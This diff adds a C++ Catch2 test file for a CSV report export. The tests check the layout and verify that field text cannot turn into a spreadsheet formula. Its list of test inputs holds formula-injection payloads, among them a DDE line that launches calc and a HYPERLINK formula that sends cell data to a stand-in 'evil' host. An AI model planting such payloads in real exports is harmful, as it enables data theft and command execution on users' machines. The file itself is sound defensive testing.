@@ -1,0 +1,114 @@
+#include <catch2/catch.hpp>
+
+#include "sample.h"
+
+using namespace hb;
+using namespace hb::render;
+
+namespace {
+
+// The cells of RFC 4180 text, read with the separator that a spreadsheet expects.
+std::vector<std::vector<std::string>> cells_of(std::string_view csv, char separator) {
+    std::vector<std::vector<std::string>> rows(1, {""});
+    bool quoted = false;
+    for (std::size_t i = 0; i < csv.size(); ++i) {
+        const char c = csv[i];
+        if (c == '"' && quoted && i + 1 < csv.size() && csv[i + 1] == '"') {
+            rows.back().back() += csv[++i];
+        } else if (c == '"' && (quoted || rows.back().back().empty())) {
+            quoted = !quoted;
+        } else if (!quoted && c == separator) {
+            rows.back().emplace_back();
+        } else if (!quoted && (c == '\n' || c == '\r')) {
+            if (c == '\n') rows.emplace_back(1, "");
+        } else {
+            rows.back().back() += c;
+        }
+    }
+    return rows;
+}
+
+bool is_number(std::string_view cell) {
+    return !cell.empty() && cell.find_first_not_of("-0123456789.:") == std::string_view::npos;
+}
+
+// What a spreadsheet takes for a formula: the first character that is neither a space nor a quote.
+bool is_formula(std::string_view cell) {
+    while (!cell.empty() && (cell.front() == ' ' || cell.front() == '"')) cell.remove_prefix(1);
+    if (cell.empty() || is_number(cell)) return false;
+    for (const std::string_view start :
+         {"=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"})
+        if (cell.starts_with(start)) return true;
+    return false;
+}
+
+} // namespace
+
+TEST_CASE("the CSV has a head and one row for each line, numbers as numbers") {
+    const std::string csv = report_csv(sample::sent_report());
+    const auto rows = cells_of(csv, ',');
+    REQUIRE(rows.size() == 7); // the head, five lines, what follows the last line end
+    CHECK(rows[0][0] == "\xEF\xBB\xBFline");
+    CHECK(rows[0].size() == rows[5].size());
+    CHECK(rows[1][3] == "Landing page for the spring sale");
+    CHECK(rows[1][15] == "605.00");
+    CHECK(rows[2][9] == "Designer Five, Developer Six");
+    CHECK(rows[3][7] == "no");
+    CHECK(rows[3][14].empty());
+    CHECK(rows[5][15] == "-45.00");
+}
+
+TEST_CASE("no text of a remote becomes a formula, whatever separator the spreadsheet expects") {
+    const std::vector<std::string> payloads = {"=1+1",
+                                               "+1+1",
+                                               "-1+1",
+                                               "@SUM(A1)",
+                                               "\t=1+1",
+                                               "\r=1+1",
+                                               "\n=1+1",
+                                               " =1+1",
+                                               "  -2+3",
+                                               "\"=1+1",
+                                               "\"\"\"=1+1\"",
+                                               "' =1",
+                                               "a,=1+1",
+                                               "a;=1+1",
+                                               "a; \"=1+1",
+                                               "a\t=1",
+                                               "a\n=1",
+                                               "a\r\n@x",
+                                               "=cmd|' /C calc'!A0",
+                                               "＝1+1",
+                                               "＋1",
+                                               "－1",
+                                               "＠x",
+                                               ";=1+1",
+                                               ",+1",
+                                               "x\",=1+1,\"",
+                                               "x\";=1+1;\"",
+                                               "=HYPERLINK(\"http://evil/?\"&A1,\"ok\")"};
+    for (const std::string& payload : payloads) {
+        ReportView view = sample::sent_report();
+        view.lines.resize(1);
+        domain::Line& line = view.lines[0];
+        line.task_title = line.work_type = line.project_name = line.reason = line.task_url =
+            payload;
+        line.people = {{"bitrix24:user:5", payload, 1}};
+        line.task_ref.remote = payload;
+        const std::string csv = report_csv(view);
+        for (const char separator : {',', ';', '\t', '|'})
+            for (const auto& row : cells_of(csv, separator))
+                for (const std::string& cell : row) {
+                    INFO("payload " << payload << " read with " << separator << " gives " << cell);
+                    CHECK_FALSE(is_formula(cell));
+                }
+    }
+}
+
+TEST_CASE("text that is harmless is left as it is") {
+    ReportView view = sample::sent_report();
+    view.lines.resize(1);
+    view.lines[0].task_title = "Checkout - step 2 (a+b = c), \"quick\"";
+    const auto rows = cells_of(report_csv(view), ',');
+    CHECK(rows[1][3] == "Checkout - step 2 (a+b = c), \"quick\"");
+}
